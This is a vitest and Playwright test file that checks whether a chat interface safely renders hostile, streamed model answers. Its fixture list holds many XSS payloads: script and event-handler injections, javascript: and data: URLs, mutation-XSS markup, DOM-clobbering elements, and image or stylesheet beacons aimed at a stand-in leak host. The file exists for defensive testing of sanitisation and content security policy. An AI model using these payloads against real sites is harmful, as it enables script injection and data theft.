// Whatever a model says is inert in a real Chromium: nothing runs, nothing is fetched, nothing is led away.
import { type HttpBindings, type ServerType, serve } from "@hono/node-server";
import { Hono } from "hono";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventStream } from "../src/serve/events.ts";
import { addPage, readPage } from "../src/serve/page.ts";
import { chromiumPath, openBrowser, withoutChromium } from "../test/browser.ts";
import { Hand, watch } from "./hand.fixture.ts";

const elsewhere = "http://127.0.0.2:9/leak";
/** each sets `pwned` or asks `elsewhere` where it works */
const words = [
  `<script>pwned=1</script>`,
  `<img src=x onerror="pwned=1">`,
  `<svg onload="pwned=1"><script>pwned=1</script></svg>`,
  `<svg><animate attributeName=href values=javascript:pwned=1 /></svg>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<a href="javascript:pwned=1">a</a>`,
  `<style>@import '${elsewhere}';*{background:url(${elsewhere})}</style>`,
  `<link rel=stylesheet href="${elsewhere}"><base href="${elsewhere}">`,
  `<form action="${elsewhere}"><button id=press>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<object data="${elsewhere}"></object><embed src="${elsewhere}"><video src="${elsewhere}" autoplay></video>`,
  `<details open ontoggle=pwned=1>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned=1&gt;">`,
  `![picture](${elsewhere}?secret)`,
  `![picture][1]\n\n[1]: ${elsewhere}`,
  `![x](javascript:pwned=1) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQ9MT4=)`,
  `[click](javascript:pwned=1) [click](JaVaScRiPt:pwned=1) [click](\tjavascript:pwned=1) [click](data:text/html,<script>pwned=1</script>)`,
  `[click](vbscript:pwned=1) [click](file:///etc/passwd) [click](blob:x)`,
  `<javascript:pwned=1> <${elsewhere}>`,
  "```html\n<script>pwned=1</script>\n```",
  "`<img src=x onerror=pwned=1>`",
  `| a |\n|---|\n| <img src=x onerror=pwned=1> |`,
  `[^1] and \n\n[^1]: <img src=x onerror=pwned=1>`,
  `# <img src=x onerror=pwned=1>\n> <script>pwned=1</script>\n- [ ] <svg/onload=pwned=1>`,
  `<div id="root"></div><div id="ask"></div><input name="attributes"><form id="document">`,
];

const told = chromiumPath === undefined ? `hostile answers (skipped: ${withoutChromium})` : "hostile answers";

describe.skipIf(chromiumPath === undefined)(told, () => {
  let browser: Browser;
  let page: Page;
  let server: ServerType;
  let url: string;
  let said = "";
  let cut = false;
  const complaints: string[] = [];
  beforeAll(async () => {
    const app = new Hono<{ Bindings: HttpBindings }>();
    addPage(app, readPage());
    app.get("/v1/models", (c) => c.json({ object: "list", data: [{ id: "hostile", vision: true }] }));
    app.post("/v1/chat/completions", (c) =>
      eventStream(async (events) => {
        // every half-written tag is shown once
        for (const [content] of said.matchAll(/[^]{1,3}/g))
          events.send({ choices: [{ index: 0, delta: { content } }] });
        if (cut) {
          await new Promise((resolve) => setTimeout(resolve, 200));
          return void c.env.outgoing.destroy();
        }
        events.send({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] });
        events.send({ choices: [], usage: { prompt_tokens: 1, completion_tokens: 2 } });
        events.line("[DONE]");
      }),
    );
    server = serve({ fetch: app.fetch, port: 0, hostname: "127.0.0.1" });
    await new Promise((resolve) => server.once("listening", resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
    browser = await openBrowser();
    page = await browser.newPage();
    watch(page, complaints);
    page.on("dialog", (dialog) => complaints.push(`dialog ${dialog.message()}`));
    page.on("framenavigated", (frame) => {
      if (!frame.url().startsWith(url)) complaints.push(`led to ${frame.url()}`);
    });
    await page.goto(url);
  });
  afterAll(async () => {
    await browser.close();
    server.close();
  });

  it("neither run nor ask for anything, alone or all together", async () => {
    const hand = new Hand(page);
    for (said of [...words, words.join("\n\n")]) {
      await hand.question("?");
      await hand.done();
      const found = await page.evaluate(() => ({
        ran: "pwned" in globalThis,
        made: [
          ...document.querySelectorAll(
            ".answer :is(script, img, iframe, svg:not(.icon), style, form, object, embed, video, base, meta, link, math)",
          ),
        ].map((element) => element.outerHTML),
        handlers: [...document.querySelectorAll(".answer *")].flatMap((element) =>
          element.getAttributeNames().filter((name) => name.startsWith("on")),
        ),
        links: [...document.querySelectorAll<HTMLAnchorElement>(".answer a")].map(({ href, rel }) => ({ href, rel })),
      }));
      expect([said, found.ran, found.made, found.handlers]).toEqual([said, false, [], []]);
      for (const { href, rel } of found.links) {
        // to a footnote of this page, or elsewhere without telling from where
        if (!href.startsWith(url))
          expect([new URL(href).protocol, rel]).toEqual(["http:", "noopener noreferrer nofollow"]);
      }
      await page.getByRole("button", { name: "New conversation" }).first().click();
    }
    // what is no Markdown is shown as it was said
    said = `a <b onclick="pwned=1">bold</b> word`;
    await hand.question("?");
    await hand.done();
    expect(await hand.answerText()).toContain(`<b onclick="pwned=1">bold</b>`);
    expect(complaints).toEqual([]);
  });

  it("are never called finished when the line is cut, and can be asked for again", async () => {
    const hand = new Hand(page);
    await page.getByRole("button", { name: "New conversation" }).first().click();
    [said, cut] = ["half of it", true];
    await hand.question("?");
    await page.getByText("Cut off:").waitFor();
    expect(await hand.answerText()).toContain("half of it");
    [said, cut] = ["all of it", false];
    await page.getByRole("button", { name: "Answer again" }).click();
    await hand.done();
    expect(await hand.answerText()).toContain("all of it");
    // the browser's own word about the cut line
    expect(complaints.splice(0).filter((line) => !line.includes("net::ERR"))).toEqual([]);
  });

  it("cannot run by the policy even if they got in", async () => {
    const ran = await page.evaluate(async () => {
      const element = document.createElement("div");
      try {
        element.innerHTML = `<img src=x onerror="pwned=1">`;
      } catch {
        return "refused";
      }
      document.body.append(element);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return "pwned" in globalThis ? "ran" : "refused";
    });
    expect(ran).toBe("refused");
    const response = await fetch(url);
    const policy = response.headers.get("content-security-policy")!;
    expect(policy).not.toMatch(/unsafe|\*|https?:/);
    const html = await response.text();
    expect(html).not.toMatch(/<style|style=|<script(?![^>]*\ssrc=)|\son\w+=/);
  });
});
